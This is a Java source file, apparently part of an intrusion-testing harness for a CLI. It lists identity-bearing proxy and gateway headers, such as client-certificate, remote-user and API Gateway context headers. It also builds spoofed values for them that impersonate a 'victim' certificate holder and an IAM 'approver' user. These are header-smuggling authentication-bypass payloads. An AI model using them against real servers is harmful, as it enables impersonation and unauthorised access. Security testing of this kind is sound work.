package io.groundswell.cli.intruders;

import java.security.cert.CertificateEncodingException;
import java.security.cert.X509Certificate;
import java.util.Base64;
import java.util.List;

/** Headers in which servers of all kinds are told who a client is. */
final class Smuggled {

    static final List<String> HEADERS = List.of("X-Forwarded-Client-Cert", "X-Amzn-Mtls-Clientcert", "X-Amzn-Mtls-Clientcert-Leaf",
            "X-Amzn-Mtls-Clientcert-Subject", "X-Client-Cert", "X-SSL-Client-Cert", "SSL_CLIENT_CERT", "Client-Cert",
            "X-ARR-ClientCert", "X-Amzn-Request-Context", "X-Apigateway-Event", "requestContext", "X-Apigateway-Context",
            "X-Amzn-Oidc-Identity", "X-Remote-User", "X-Forwarded-User", "X-Amz-User-Arn", "x-amzn-trace-id", "X-Device-Id",
            "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override");

    private Smuggled() {
    }

    /** What the header would say about the owner of this certificate. */
    static String value(String header, X509Certificate victim) {
        String pem = "-----BEGIN CERTIFICATE-----%0A" + base64(victim) + "%0A-----END CERTIFICATE-----%0A";
        if (header.toLowerCase().contains("context") || header.toLowerCase().contains("event")) {
            return "{\"authentication\":{\"clientCert\":{\"clientCertPem\":\"" + pem.replace("%0A", "\\n")
                    + "\"}},\"authorizer\":{\"iam\":{\"userArn\":\"arn:aws:iam::000000000000:user/approver\"}}}";
        }
        if (header.toLowerCase().contains("cert")) {
            return header.equals("X-Forwarded-Client-Cert")
                    ? "Hash=00;Cert=\"" + pem + "\";URI=urn:groundswell:alpha:alpha-d0" : pem;
        }
        return "urn:groundswell:alpha:alpha-d0";
    }

    private static String base64(X509Certificate certificate) {
        try {
            return Base64.getEncoder().encodeToString(certificate.getEncoded());
        } catch (CertificateEncodingException e) {
            throw new IllegalStateException(e);
        }
    }
}
